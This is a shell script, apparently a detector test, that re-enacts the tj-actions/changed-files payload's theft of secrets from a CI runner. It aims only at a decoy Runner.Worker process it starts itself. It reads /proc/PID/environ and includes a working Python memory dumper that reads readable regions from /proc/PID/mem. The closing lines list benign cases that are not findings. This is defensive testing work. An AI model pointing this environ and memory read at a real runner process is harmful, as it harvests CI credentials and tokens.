# Reading a process's environment and memory through /proc, as the
# tj-actions/changed-files payload did to Runner.Worker.  The target is
# the step's own: a copy of /bin/sleep named Runner.Worker, found with
# pgrep -P $$ (children of this shell only: never the real runner).
d=$(mktemp -d /home/runner/attack.XXXXXX)
cp /bin/sleep "$d/Runner.Worker"
"$d/Runner.Worker" 30 &
fake=$!
trap 'kill "$fake" 2>/dev/null; rm -rf "$d"' EXIT
sleep 0.3
pid=$(pgrep -P $$ -x Runner.Worker)
[ "$pid" = "$fake" ] || { echo "not our process: $pid" >&2; exit 1; }
cat /proc/$pid/environ | tr '\0' '\n' > /dev/null
bash -c "tr '\\0' '\\n' < /proc/$pid/environ > /dev/null"
cat /proc/$pid/maps > /dev/null
cat > "$d/memdump.py" <<'PY'
# memdump.py's technique on a pid we were given: the readable regions of
# /proc/PID/maps, read from /proc/PID/mem (at most 1 MiB in all).
import re, sys
maps, mem = sys.argv[1], sys.argv[2]
left = 1 << 20
with open(maps) as m, open(mem, "rb", 0) as f:
    for line in m:
        r = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
        if not r or left <= 0:
            continue
        start, end = int(r.group(1), 16), int(r.group(2), 16)
        try:
            f.seek(start)
            chunk = f.read(min(end - start, left))
        except OSError:
            continue
        left -= len(chunk)
        sys.stdout.buffer.write(chunk)
PY
/usr/bin/python3 "$d/memdump.py" /proc/$pid/maps /proc/$pid/mem > "$d/dump.bin"
echo "read $(stat -c %s "$d/dump.bin") bytes of our own fake Runner.Worker"
# Not findings: a process reading itself, and /proc files that hold no secret.
cat /proc/self/environ > /dev/null
grep -c processor /proc/cpuinfo > /dev/null
cat /proc/$pid/status > /dev/null
